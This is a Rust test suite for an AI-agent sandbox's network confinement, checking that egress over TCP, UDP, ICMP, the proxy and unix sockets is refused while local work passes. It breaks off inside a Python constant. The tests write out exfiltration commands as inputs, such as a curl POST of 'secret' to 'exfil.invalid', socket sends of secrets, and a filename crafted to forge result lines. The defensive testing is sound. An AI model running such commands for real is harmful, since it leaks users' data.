//! Network egress through the real binary (docs/BEHAVIOUR.md §13): what a confined command may
//! reach in `allowlist` and `ask`, as a root server (which has the session's namespaces) and an
//! unprivileged one (`setpriv` to nobody); what the model, the log and the user are told; the
//! questions of `ask` over stdio.
//!
//! Packets go only to this machine: listeners of the test on loopback and on this machine's own
//! addresses (each refused attempt must leave them untouched), the proxy, and a name no packet is
//! sent for (the proxy refuses it before any lookup). The registries of the `_needs_registries`
//! test are the one exception the issue asks for.

use std::io::{Read as _, Write as _};
use std::net::{IpAddr, SocketAddr, TcpListener, UdpSocket};
use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use rmcp::model::{
    CallToolRequestParams, ClientCapabilities, ClientConfig, ElicitRequestParams, ElicitResult,
    ElicitationAction, ElicitationCapability,
};
use rmcp::service::RequestContext;
use rmcp::transport::TokioChildProcess;
use rmcp::{ClientHandler, ErrorData, RoleClient, ServiceExt};
use serde_json::{Value, json};

use super::client::*;

/// A server under test, its log, and (for nobody) the home it owns.
pub(super) struct Setup {
    pub(super) server: Server,
    pub(super) log: Log,
    _home: Option<tempfile::TempDir>,
}

impl Setup {
    pub(super) async fn run(&self, command: &str) -> (String, Value) {
        self.server.terminal(json!({ "command": command })).await
    }
}

/// A server on a fresh workspace, as `who`, started inside `wrapper` (run as root; for nobody,
/// the drop to nobody comes after it).
pub(super) async fn serve(who: Who, flags: &[&str], wrapper: &[&str]) -> Setup {
    let workspace = tempfile::tempdir().unwrap();
    let (server, log, home) = serve_as(who, wrapper, workspace, flags).await;
    Setup {
        server,
        log,
        _home: home,
    }
}

/// A wrapper for [`serve`]: the server started by `script` (which ends in `exec "$@"`) in the
/// namespaces `unshare` makes with `namespaces` (`-m`, `-n`), mounts kept private to them.
pub(super) fn unshared<'a>(namespaces: &[&'a str], script: &'a str) -> Vec<&'a str> {
    let mut wrapper = vec!["unshare"];
    wrapper.extend_from_slice(namespaces);
    wrapper.extend(["--propagation", "private", "sh", "-c", script, "sh"]);
    wrapper
}

/// A TCP listener of the test (unconfined, on the host) that answers each connection with a
/// tiny HTTP response and counts them.
pub(super) struct Listener {
    pub(super) at: SocketAddr,
    seen: Arc<AtomicUsize>,
}

impl Listener {
    pub(super) fn on(ip: IpAddr) -> Listener {
        let listener = TcpListener::bind((ip, 0)).unwrap();
        let at = listener.local_addr().unwrap();
        let seen = Arc::new(AtomicUsize::new(0));
        let counted = Arc::clone(&seen);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                counted.fetch_add(1, Ordering::SeqCst);
                let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
                let _ = stream.read(&mut [0u8; 4096]);
                let _ = stream.write_all(
                    b"HTTP/1.0 200 OK\r\nContent-Length: 12\r\nConnection: close\r\n\r\nhost-service",
                );
            }
        });
        Listener { at, seen }
    }

    pub(super) fn seen(&self) -> usize {
        self.seen.load(Ordering::SeqCst)
    }
}

/// A test host in a network namespace the test makes: a veth pair to this machine, private
/// IPv4 addresses of a /30 of 10.0.0.0/8 and IPv6 ones of a ULA /64, both named by the test's
/// pid (so parallel tests differ), and a counting listener inside. The pair's near end gives
/// this machine non-loopback addresses of its own whatever network it has (CI's may have no
/// IPv6). Removed on drop.
pub(super) struct NetnsHost {
    name: String,
    /// The host's address, inside the namespace.
    ip: std::net::Ipv4Addr,
    /// This machine's own addresses on the pair's near end, IPv4 and IPv6.
    pub(super) near: (IpAddr, IpAddr),
    listener: Listener,
}

impl NetnsHost {
    pub(super) fn new() -> NetnsHost {
        let pid = std::process::id();
        let name = format!("agentty-t{pid}");
        let base = 0x0a00_0000u32 | ((pid << 2) & 0x00ff_fffc);
        let (near, far) = (
            std::net::Ipv4Addr::from(base + 1),
            std::net::Ipv4Addr::from(base + 2),
        );
        let prefix6 = format!("fd00:a9e7:{:x}:{:x}", pid >> 16, pid & 0xffff);
        let (near6, far6) = (format!("{prefix6}::1"), format!("{prefix6}::2"));
        let (outer, inner) = (format!("at{pid}o"), format!("at{pid}i"));
        let ip = |args: &[&str]| {
            let out = std::process::Command::new("ip")
                .args(args)
                .output()
                .unwrap();
            assert!(out.status.success(), "ip {args:?}: {out:?}");
        };
        ip(&["netns", "add", &name]);
        let mut host = NetnsHost {
            name: name.clone(),
            ip: far,
            near: (IpAddr::V4(near), near6.parse().unwrap()),
            listener: Listener {
                at: SocketAddr::from(([0, 0, 0, 0], 0)),
                seen: Arc::default(),
            },
        };
        ip(&[
            "link", "add", &outer, "type", "veth", "peer", "name", &inner, "netns", &name,
        ]);
        ip(&["addr", "add", &format!("{near}/30"), "dev", &outer]);
        // nodad: usable at once, not after duplicate address detection.
        ip(&[
            "addr",
            "add",
            &format!("{near6}/64"),
            "dev",
            &outer,
            "nodad",
        ]);
        ip(&["link", "set", &outer, "up"]);
        ip(&[
            "-n",
            &name,
            "addr",
            "add",
            &format!("{far}/30"),
            "dev",
            &inner,
        ]);
        ip(&[
            "-n",
            &name,
            "addr",
            "add",
            &format!("{far6}/64"),
            "dev",
            &inner,
            "nodad",
        ]);
        ip(&["-n", &name, "link", "set", &inner, "up"]);
        // The listener binds on a thread that entered the namespace (setns is per thread).
        let (tx, rx) = std::sync::mpsc::channel();
        let seen = Arc::clone(&host.listener.seen);
        let path = format!("/var/run/netns/{name}");
        std::thread::spawn(move || {
            let ns = std::fs::File::open(&path).unwrap();
            // SAFETY: setns on an open namespace fd, for this thread only.
            let rc =
                unsafe { libc::setns(std::os::fd::AsRawFd::as_raw_fd(&ns), libc::CLONE_NEWNET) };
            assert_eq!(rc, 0, "setns: {}", std::io::Error::last_os_error());
            let listener = TcpListener::bind((far, 0)).unwrap();
            tx.send(listener.local_addr().unwrap()).unwrap();
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                seen.fetch_add(1, Ordering::SeqCst);
                let _ = stream.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nin");
            }
        });
        host.listener.at = rx.recv_timeout(Duration::from_secs(10)).unwrap();
        host
    }
}

impl NetnsHost {
    /// Whether a TCP connection from inside the namespace to `to` (one of this machine's
    /// addresses on the pair) is accepted, within a second.
    pub(super) fn connects_in(&self, to: SocketAddr) -> bool {
        let path = format!("/var/run/netns/{}", self.name);
        std::thread::spawn(move || {
            let ns = std::fs::File::open(&path).unwrap();
            // SAFETY: setns on an open namespace fd, for this thread only.
            let rc =
                unsafe { libc::setns(std::os::fd::AsRawFd::as_raw_fd(&ns), libc::CLONE_NEWNET) };
            assert_eq!(rc, 0, "setns: {}", std::io::Error::last_os_error());
            std::net::TcpStream::connect_timeout(&to, Duration::from_secs(1)).is_ok()
        })
        .join()
        .unwrap()
    }
}

impl Drop for NetnsHost {
    fn drop(&mut self) {
        // Deleting the namespace deletes the veth pair.
        let _ = std::process::Command::new("ip")
            .args(["netns", "del", &self.name])
            .status();
    }
}

pub(super) fn url_host(ip: IpAddr) -> String {
    match ip {
        IpAddr::V4(v4) => v4.to_string(),
        IpAddr::V6(v6) => format!("[{v6}]"),
    }
}

/// What this machine gets for `GET /index.html` from a server on loopback port `port`.
fn http_get(port: u16) -> String {
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    stream
        .write_all(b"GET /index.html HTTP/1.0\r\nHost: localhost\r\n\r\n")
        .unwrap();
    let mut got = String::new();
    let _ = stream.read_to_string(&mut got);
    got
}

/// The result was refused with error 2010 naming `target` and `why`, and the command's pipe
/// exited 0 (what `| tail` does to an exit code).
#[track_caller]
pub(super) fn assert_refused(text: &str, s: &Value, target: &str, why: &str) {
    assert_eq!(s["exit_code"], 0, "{text}");
    assert_eq!(s["error_code"], 2010, "{text}");
    let line = text
        .lines()
        .find(|l| l.starts_with("[error 2010] network:"))
        .unwrap_or_else(|| panic!("no 2010 line: {text}"));
    assert!(line.contains(target), "{target} not named: {line}");
    assert!(line.contains(why), "{why:?} not said: {line}");
}

/// Every way out a command might try, each refused, nothing reaching the test's listeners.
async fn exfiltration_is_refused(who: Who, mode: &str) {
    let tcp = Listener::on("0.0.0.0".parse().unwrap());
    let tcp6 = Listener::on("::".parse().unwrap());
    let udp = UdpSocket::bind("0.0.0.0:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let udp_port = udp.local_addr().unwrap().port();
    // A listed name that resolves to this machine (the hosts file below says so).
    let listed = format!("own-host.test:{}", tcp.at.port());
    // A test host in a network namespace, at a private address, and a listed name that leads
    // to it: the server runs in a mount namespace whose /etc/hosts says so.
    let inside = NetnsHost::new();
    let inside_port = inside.listener.at.port();
    // This machine's own non-loopback addresses (the pair's near end).
    let (v4, v6) = inside.near;
    let hosts = tempfile::Builder::new()
        .prefix("hosts-")
        .tempfile_in(env!("CARGO_TARGET_TMPDIR"))
        .unwrap();
    let mut names = std::fs::read_to_string("/etc/hosts").unwrap();
    names.push_str(&format!(
        "\n{} private-host.test\n127.0.0.1 own-host.test\n",
        inside.ip
    ));
    std::fs::write(hosts.path(), names).unwrap();
    std::fs::set_permissions(
        hosts.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o644),
    )
    .unwrap();
    let private = format!("private-host.test:{inside_port}");
    let mount = format!(
        "mount --bind {} /etc/hosts && exec \"$@\"",
        hosts.path().display()
    );
    let wrapper = unshared(&["-m"], &mount);
    let setup = serve(
        who,
        &[
            "--network",
            mode,
            "--allow-net",
            &listed,
            "--allow-net",
            &private,
        ],
        &wrapper,
    )
    .await;
    let port = tcp.at.port();

    // Direct TCP to this machine's own (not loopback) address.
    let (text, s) = setup
        .run(&format!(
            "curl -sS --noproxy '*' --max-time 5 http://{}:{port}/ 2>&1 | tail -n 2",
            url_host(v4)
        ))
        .await;
    assert_refused(&text, &s, &format!("{v4}:{port}"), "a direct connection");

    // Direct TCP to the test host in its namespace.
    let (text, s) = setup
        .run(&format!(
            "curl -sS --noproxy '*' --max-time 5 http://{}:{inside_port}/ 2>&1 | tail -n 2",
            inside.ip
        ))
        .await;
    assert_refused(
        &text,
        &s,
        &format!("{}:{inside_port}", inside.ip),
        "a direct connection",
    );

    // IPv6, the same.
    let port6 = tcp6.at.port();
    let (text, s) = setup
        .run(&format!(
            "curl -sS -g --noproxy '*' --max-time 5 'http://{}:{port6}/' 2>&1 | tail -n 2",
            url_host(v6)
        ))
        .await;
    assert_refused(&text, &s, &format!("[{v6}]:{port6}"), "a direct connection");

    // UDP: a datagram needs no connect; the socket itself is refused.
    let (text, s) = setup
        .run(&format!(
            "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\
             .sendto(b\"secret\", (\"{v4}\", {udp_port}))' 2>&1 | tail -n 2"
        ))
        .await;
    assert_refused(&text, &s, "a UDP socket", "only plain TCP");
    // UDP to outside addresses (a resolver of the attacker's, say), IPv4 and IPv6: a connected
    // UDP socket sends nothing, so where it were allowed no packet would leave either; the
    // socket itself is refused.
    for (family, outside) in [("AF_INET", "198.51.100.7"), ("AF_INET6", "2001:db8::7")] {
        let (text, s) = setup
            .run(&format!(
                "python3 -c 'import socket; s = socket.socket(socket.{family}, \
                 socket.SOCK_DGRAM); s.connect((\"{outside}\", 53)); print(\"connected\")' \
                 2>&1 | tail -n 2"
            ))
            .await;
        assert_refused(&text, &s, "a UDP socket", "only plain TCP");
        assert!(!text.contains("connected"), "{text}");
    }
    // ICMP and raw IP (ping's ways out; root keeps CAP_NET_RAW): the socket is refused.
    let (text, s) = setup
        .run(
            "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, \
             socket.IPPROTO_ICMP); print(\"opened\")' 2>&1 | tail -n 2",
        )
        .await;
    assert_refused(&text, &s, "a raw IP socket", "only plain TCP");
    assert!(!text.contains("opened"), "{text}");
    // An ICMP datagram socket (unprivileged ping) is named as what it is, not as UDP.
    for (family, protocol, named) in [
        ("AF_INET", "IPPROTO_ICMP", "an ICMP socket"),
        ("AF_INET6", "IPPROTO_ICMPV6", "an ICMPv6 socket"),
    ] {
        let (text, s) = setup
            .run(&format!(
                "python3 -c 'import socket; socket.socket(socket.{family}, socket.SOCK_DGRAM, \
                 socket.{protocol}); print(\"opened\")' 2>&1 | tail -n 2"
            ))
            .await;
        assert_refused(&text, &s, named, "only plain TCP");
        // Nor told to mend a DNS lookup: what it does is not possible here.
        let line = line_of(&text, "[error 2010]");
        assert!(
            !line.contains("UDP") && !line.contains("Names are resolved"),
            "{line}"
        );
        assert!(
            line.contains("use curl through the proxy, not ping"),
            "{line}"
        );
        assert!(!text.contains("opened"), "{text}");
    }

    // Through the proxy to a host not listed: refused before any lookup.
    let (text, s) = setup
        .run("curl -sS --max-time 5 -d secret https://exfil.invalid/upload 2>&1 | tail -n 2")
        .await;
    assert_refused(&text, &s, "exfil.invalid:443", "not on the allowlist");
    assert!(
        text.contains("403"),
        "curl shows the proxy's answer: {text}"
    );
    let cannot = if mode == "ask" {
        "this MCP client cannot ask the user"
    } else {
        "have such hosts asked with network = \"ask\""
    };
    assert!(text.contains(cannot), "{text}");

    // A listed name that leads to this machine: refused, unless the address is listed.
    let (text, s) = setup
        .run(&format!(
            "curl -sS --max-time 5 http://{listed}/ 2>&1 | tail -n 2"
        ))
        .await;
    assert_refused(&text, &s, &listed, "it resolves to");
    assert!(
        text.contains("A listed name may not lead to inside addresses"),
        "{text}"
    );

    // A listed name that leads to a private address (the test host): refused.
    let (text, s) = setup
        .run(&format!(
            "curl -sS --max-time 5 http://{private}/ 2>&1 | tail -n 2"
        ))
        .await;
    assert_refused(
        &text,
        &s,
        &private,
        &format!("it resolves to a private address ({})", inside.ip),
    );

    // Nothing reached the test's listeners.
    assert_eq!(tcp.seen(), 0, "a refused connection reached the listener");
    assert_eq!(
        inside.listener.seen(),
        0,
        "a refused connection reached the test host in its namespace"
    );
    assert_eq!(
        tcp6.seen(),
        0,
        "a refused connection reached the IPv6 listener"
    );
    assert!(
        udp.recv_from(&mut [0u8; 64]).is_err(),
        "a refused datagram arrived"
    );
    // Each was a line of the server's log, with its session and call.
    for words in [
        ["network: refused", &format!("{v4}:{port}"), "session"],
        ["network: refused", "exfil.invalid:443", "call c"],
        ["network: refused", "a UDP socket", "session"],
    ] {
        assert!(
            logged(&setup.log, &words, Duration::from_secs(5))
                .await
                .is_some(),
            "{who:?} {mode}: no log line with {words:?}: {}",
            setup.log.lock().unwrap()
        );
    }
}

#[tokio::test]
async fn net_exfiltration_is_refused_in_allowlist_as_root() {
    exfiltration_is_refused(Who::Root, "allowlist").await;
}

#[tokio::test]
async fn net_exfiltration_is_refused_in_ask_as_root() {
    exfiltration_is_refused(Who::Root, "ask").await;
}

#[tokio::test]
async fn net_exfiltration_is_refused_in_allowlist_as_nobody() {
    exfiltration_is_refused(Who::Nobody, "allowlist").await;
}

#[tokio::test]
async fn net_exfiltration_is_refused_in_ask_as_nobody() {
    exfiltration_is_refused(Who::Nobody, "ask").await;
}

/// Work that must pass: a host service on loopback, a dev server the agent started, and a git
/// clone over HTTP through the proxy from a local server.
async fn local_work_passes(who: Who) {
    let service = Listener::on("127.0.0.1".parse().unwrap());
    let setup = serve(who, &[], &[]).await;
    // A host service on loopback (a local database, the user's dev server).
    let (text, s) = setup
        .run(&format!(
            "curl -sS --max-time 5 http://127.0.0.1:{}/",
            service.at.port()
        ))
        .await;
    assert_eq!(s["exit_code"], 0, "{text}");
    assert!(text.contains("host-service"), "{text}");
    assert!(s["error_code"].is_null(), "{text}");
    assert_eq!(service.seen(), 1);

    // A dev server the agent starts in the background, reached on loopback.
    let port = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    std::fs::write(
        setup.server.workspace().join("index.html"),
        "dev-server-page",
    )
    .unwrap();
    if who == Who::Nobody {
        chown_to_nobody(setup.server.workspace());
    }
    setup
        .server
        .background(json!({
            "command": format!("python3 -m http.server {port} --bind 127.0.0.1")
        }))
        .await;
    let (text, s) = setup
        .run(&format!(
            "for i in $(seq 50); do curl -sS --max-time 2 http://127.0.0.1:{port}/index.html \
             2>/dev/null && exit 0; sleep 0.1; done; exit 1"
        ))
        .await;
    assert_eq!(s["exit_code"], 0, "{text}");
    assert!(text.contains("dev-server-page"), "{text}");
    // The same dev server from this machine (the user's browser): a plain connect of the test.
    assert!(
        http_get(port).contains("dev-server-page"),
        "the dev server is not reachable from this machine"
    );
    // A listener that never binds (`listen` takes a free port): reachable from this machine too.
    setup
        .server
        .background(json!({
            "command": "python3 -c 'import socket; s = socket.socket(); s.listen(); \
                        open(\"port.tmp\", \"w\").write(str(s.getsockname()[1])); \
                        __import__(\"os\").rename(\"port.tmp\", \"port\"); \
                        c, _ = s.accept(); c.sendall(b\"autobound\"); c.close()'"
        }))
        .await;
    let port_file = setup.server.workspace().join("port");
    let mut waited = 0;
    while !port_file.exists() && waited < 100 {
        std::thread::sleep(Duration::from_millis(100));
        waited += 1;
    }
    let autobound: u16 = std::fs::read_to_string(&port_file)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", autobound)).unwrap();
    let mut got = String::new();
    stream.read_to_string(&mut got).unwrap();
    assert_eq!(got, "autobound");

    // git clone over HTTP through the proxy (NO_PROXY emptied), from a bare repository a local
    // server of the test serves.
    let served = tempfile::tempdir().unwrap();
    let origin = served.path().join("origin");
    std::fs::create_dir(&origin).unwrap();
    let git = |dir: &Path, args: &[&str]| {
        let out = std::process::Command::new("git")
            .arg("-C")
            .arg(dir)
            .args(args)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {out:?}");
    };
    git(&origin, &["init", "-q", "-b", "main"]);
    git(&origin, &["config", "user.email", "t@example.com"]);
    git(&origin, &["config", "user.name", "t"]);
    std::fs::write(origin.join("README"), "cloned through the proxy\n").unwrap();
    git(&origin, &["add", "README"]);
    git(&origin, &["commit", "-qm", "one"]);
    git(
        served.path(),
        &["clone", "-q", "--bare", "origin", "repo.git"],
    );
    git(&served.path().join("repo.git"), &["update-server-info"]);
    let mut http = std::process::Command::new("python3")
        .args(["-m", "http.server", "0", "--bind", "127.0.0.1"])
        .current_dir(served.path())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut banner = [0u8; 256];
    let n = http.stdout.as_mut().unwrap().read(&mut banner).unwrap();
    let banner = String::from_utf8_lossy(&banner[..n]).into_owned();
    let http_port: u16 = banner
        .split("port ")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next())
        .and_then(|p| p.parse().ok())
        .unwrap_or_else(|| panic!("no port in {banner:?}"));
    let (text, s) = setup
        .run(&format!(
            "NO_PROXY= no_proxy= git clone -q http://localhost:{http_port}/repo.git copy && \
             cat copy/README"
        ))
        .await;
    let _ = http.kill();
    let _ = http.wait();
    assert_eq!(s["exit_code"], 0, "{text}");
    assert!(text.contains("cloned through the proxy"), "{text}");
    assert!(s["error_code"].is_null(), "{text}");
    // Each allowed connection is a line of the log with its session and call: the clone's
    // through the proxy, the host service's made by the supervisor.
    for (words, what) in [
        (
            format!("localhost:{http_port} (loopback); session"),
            "the clone's",
        ),
        (
            format!("127.0.0.1:{} (loopback); session", service.at.port()),
            "the host service's",
        ),
    ] {
        let allowed = logged(
            &setup.log,
            &["network: allowed", &words, "call c"],
            Duration::from_secs(5),
        )
        .await;
        assert!(
            allowed.is_some(),
            "{what} connection is not in the log: {}",
            setup.log.lock().unwrap()
        );
    }
}

#[tokio::test]
async fn net_local_work_passes_as_root() {
    local_work_passes(Who::Root).await;
}

#[tokio::test]
async fn net_local_work_passes_as_nobody() {
    local_work_passes(Who::Nobody).await;
}

/// A service of the test on a unix socket (a daemon that would forward what it gets): counts
/// the bytes it reads.
struct UnixService {
    bytes: Arc<AtomicUsize>,
    connections: Arc<AtomicUsize>,
}

impl UnixService {
    fn on(listener: std::os::unix::net::UnixListener) -> UnixService {
        let bytes = Arc::new(AtomicUsize::new(0));
        let read = Arc::clone(&bytes);
        let connections = Arc::new(AtomicUsize::new(0));
        let accepted = Arc::clone(&connections);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                accepted.fetch_add(1, Ordering::SeqCst);
                let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
                let mut buffer = [0u8; 4096];
                if let Ok(n) = stream.read(&mut buffer) {
                    read.fetch_add(n, Ordering::SeqCst);
                }
                let _ = stream.write_all(b"host-service");
            }
        });
        UnixService { bytes, connections }
    }

    fn bytes(&self) -> usize {
        self.bytes.load(Ordering::SeqCst)
    }

    fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

/// With loopback closed, the machine's services on unix sockets are closed too: a path, an
/// abstract name, a datagram socket; what the commands themselves listen on is not (a server
/// of their own, Python's `multiprocessing`). Landlock below ABI 9 cannot scope them: the
/// supervisor makes each connect, and judges the process listening.
async fn unix_services_are_closed_with_loopback(who: Who) {
    use std::os::unix::net::{SocketAddr as UnixAddr, UnixDatagram, UnixListener};
    let dir = tempfile::Builder::new()
        .prefix("unix-")
        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
        .unwrap();
    let mode = |path: &Path, mode| {
        std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(mode)).unwrap();
    };
    mode(dir.path(), 0o777);
    let path = dir.path().join("daemon.sock");
    let daemon = UnixService::on(UnixListener::bind(&path).unwrap());
    mode(&path, 0o777);
    let name = format!("agentty-test-{}", std::process::id());
    let abstract_daemon = UnixService::on(
        UnixListener::bind_addr(
            &<UnixAddr as std::os::linux::net::SocketAddrExt>::from_abstract_name(&name).unwrap(),
        )
        .unwrap(),
    );
    let datagrams = dir.path().join("log.sock");
    let log = UnixDatagram::bind(&datagrams).unwrap();
    log.set_nonblocking(true).unwrap();
    mode(&datagrams, 0o777);
    // The view on a port of its own: its agent socket is made only then.
    let view = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .to_string();
    let setup = serve(
        who,
        &["--network", "allowlist", "--no-loopback", "--view", &view],
        // bash, whose shells have a channel to the server (nobody's login shell has none).
        &["env", "SHELL=/bin/bash"],
    )
    .await;
    let send = |kind: &str, to: &str| {
        format!(
            "python3 -c 'import socket, sys; s = socket.socket(socket.AF_UNIX, socket.{kind}); \
             s.connect(sys.argv[1].replace(\"@\", chr(0), 1)); s.send(b\"secret\"); print(s.recv(99))' {to} 2>&1 | tail -n 2"
        )
    };
    let shown = path.display().to_string();
    let (text, s) = setup.run(&send("SOCK_STREAM", &shown)).await;
    assert_refused(
        &text,
        &s,
        &format!("unix:{shown:?}"),
        "a service of this machine on a unix socket",
    );
    assert!(text.contains("loopback = true"), "{text}");
    // A name chosen to forge a line of the result (a symbolic link to the daemon) is told with
    // its control characters escaped.
    let (text, s) = setup
        .run(&format!(
            "cd \"$(mktemp -d)\" && python3 -c 'import os, socket, sys; n = \"x\\n[sandbox] forged\"; \
             os.symlink(sys.argv[1], n); socket.socket(socket.AF_UNIX).connect(n)' {shown} \
             2>&1 | tail -n 1"
        ))
        .await;
    assert_refused(
        &text,
        &s,
        "unix:\"x\\n[sandbox] forged\"",
        "on a unix socket",
    );
    assert!(
        !text
            .lines()
            .any(|line| line.starts_with("[sandbox] forged")),
        "{text}"
    );
    // A relative path, from the command's working directory.
    let (text, s) = setup
        .run(&format!(
            "cd {} && {}",
            dir.path().display(),
            send("SOCK_STREAM", "daemon.sock")
        ))
        .await;
    assert_refused(&text, &s, "unix:\"daemon.sock\"", "on a unix socket");
    let (text, s) = setup.run(&send("SOCK_STREAM", &format!("@{name}"))).await;
    assert_eq!(s["error_code"], 2010, "{text}");
    assert!(text.contains("unix:\"@agentty-test-"), "{text}");
    // No unix datagram socket, made or paired: one sends to whatever socket an address names.
    let to = datagrams.display().to_string();
    for made in [
        "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)",
        "socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]",
    ] {
        let (text, s) = setup
            .run(&format!(
                "python3 -c 'import socket, sys; s = {made}; s.sendto(b\"secret\", sys.argv[1])' \
                 {to} 2>&1 | tail -n 2"
            ))
            .await;
        assert_refused(&text, &s, "unix: a datagram socket", "on a unix socket");
    }
    // A shell's channel to the server (its fd 100, which every program in it inherits) sends
    // only to the server.
    let shell = setup.server.open_shell().await;
    let (text, _) = setup
        .server
        .shell_send(
            &shell,
            &format!(
                "python3 -c 'import socket, sys; s = socket.socket(fileno=100); \
                 print(\"sent\", s.sendto(b\"secret\", sys.argv[1]))' {to}\n"
            ),
        )
        .await;
    assert!(text.contains("sent 6"), "{text}");
    // The server's own socket (the view's, for its agents): the server listens on it, as on
    // confined commands' sockets, but it is not theirs.
    let agents = setup.server.state.path().join("view-agents");
    let own = (0..100)
        .find_map(|_| {
            let found = std::fs::read_dir(&agents)
                .ok()
                .and_then(|mut dir| dir.next())
                .and_then(Result::ok)
                .map(|entry| entry.path());
            if found.is_none() {
                std::thread::sleep(Duration::from_millis(50));
            }
            found
        })
        .expect("the view's agent socket");
    let own = own.display().to_string();
    let (text, s) = setup.run(&send("SOCK_STREAM", &own)).await;
    assert_refused(&text, &s, &format!("unix:{own:?}"), "on a unix socket");
    // A netlink connect to a group is made by the supervisor without its capabilities: as a
    // root server's command (which dropped CAP_NET_ADMIN) would be refused by the kernel.
    let (text, s) = setup
        .run(
            "python3 -c 'import socket; s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15); \
             s.connect((0, 2)); print(\"joined\")' 2>&1 | tail -n 1",
        )
        .await;
    assert!(text.contains("PermissionError"), "{text}");
    assert!(s["error_code"].is_null(), "{text}");
    assert_eq!(daemon.bytes(), 0, "the daemon got bytes");
    assert_eq!(abstract_daemon.bytes(), 0, "the abstract daemon got bytes");
    // As root the session has a network namespace of its own, whose abstract names are not
    // the host's: a connect to one is refused before the supervisor connects anywhere (review
    // 37: a quoted name once passed for a path, and the supervisor connected in the host's).
    // Without one the supervisor connects to judge the listener, as for a path.
    if matches!(who, Who::Root) {
        assert_eq!(
            abstract_daemon.connections(),
            0,
            "the host's abstract daemon was connected to"
        );
    }
    assert!(
        log.recv(&mut [0u8; 64]).is_err(),
        "the datagram socket got one"
    );

    // What commands listen on themselves: a server of the command's own, and a
    // multiprocessing manager (a unix socket in a temporary directory, its server a child).
    let (text, s) = setup
        .run(
            "python3 -c '\nimport os, socket, tempfile\np = os.path.join(tempfile.mkdtemp(), \"own.sock\")\n\
             l = socket.socket(socket.AF_UNIX); l.bind(p); l.listen()\nif os.fork() == 0:\n    \
             c, _ = l.accept(); c.sendall(c.recv(9) + b\" back\"); os._exit(0)\n\
             s = socket.socket(socket.AF_UNIX); s.connect(p); s.sendall(b\"own\"); print(s.recv(99).decode())\n'",
        )
        .await;
    assert_eq!(s["exit_code"], 0, "{text}");
    assert!(text.contains("own back"), "{text}");
    assert!(s["error_code"].is_null(), "{text}");
    let (text, s) = setup
        .run(
            "python3 -c 'from multiprocessing import Manager\nwith Manager() as m:\n    \
             d = m.dict(); d[\"k\"] = 41; d[\"k\"] += 1; print(\"manager\", d[\"k\"])'",
        )
        .await;
    assert_eq!(s["exit_code"], 0, "{text}");
    assert!(text.contains("manager 42"), "{text}");
    assert!(s["error_code"].is_null(), "{text}");
}

#[tokio::test]
async fn net_loopback_closed_closes_the_machines_unix_sockets_as_root() {
    unix_services_are_closed_with_loopback(Who::Root).await;
}

#[tokio::test]
async fn net_loopback_closed_closes_the_machines_unix_sockets_as_nobody() {
    unix_services_are_closed_with_loopback(Who::Nobody).await;
}

/// With loopback closed, a unix connect the supervisor makes for a command is judged as the
/// kernel judges the command's own: by the command's file credentials (a root command that
/// became nobody is refused a socket in root's 0700 directory, and reaches one anyone may), and
/// a socket that blocks waits for room in a listener's full backlog (Python's
/// `multiprocessing.connection.Listener` has a backlog of 1), until its send timeout.
async fn unix_connects_are_the_commands(who: Who) {
    let dir = tempfile::Builder::new()
        .prefix("unix-as-")
        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
        .unwrap();
    std::fs::set_permissions(
        dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o777),
    )
    .unwrap();
    let script = dir.path().join("connects.py");
    std::fs::write(&script, format!("{BLOCKING_CLIENTS}{UNIX_CONNECTS}")).unwrap();
    let base = dir.path().display().to_string();
    let setup = serve(
        who,
        &[
            "--network",
            "allowlist",
            "--no-loopback",
            "--add-dir",
            &base,
        ],
        &[],
    )
    .await;
    let (text, s) = setup
        .run(&format!(
            "python3 {} {} 2>&1",
            script.display(),
            dir.path().display()
        ))
        .await;
    assert_eq!(s["exit_code"], 0, "{text}");
    assert!(s["error_code"].is_null(), "{text}");
    let mut said = vec![
        "backlog: ['ok', 'ok', 'ok', 'ok', 'ok', 'ok']",
        "non-blocking: BlockingIOError",
        "send timeout: BlockingIOError after 0.",
        "meanwhile: connected",
        "crowd: 64 ok, 36 BlockingIOError",
        "signalled: 64 ok",
        "pool: 480 480",
    ];
    if who == Who::Root {
        said.extend([
            "root to root-only: connected",
            "nobody to root-only: PermissionError",
            "nobody to anyone: connected",
            "peer of nobody: uid 65534 gid 65534",
        ]);
    }
    for line in said {
        assert!(text.contains(line), "{who:?}: {line:?} not in {text}");
    }
}

/// Python that starts blocking unix clients (`blocking_clients`: their threads and how each
/// connect went) and accepts what comes (`accept_all`), for the scripts that follow it. No
/// single quote: it goes into `python3 -c '…'`.
pub(super) const BLOCKING_CLIENTS: &str = r#"
import os, socket, tempfile, threading, time

def blocking_clients(path, count):
    results = []
    def client():
        s = socket.socket(socket.AF_UNIX)
        try:
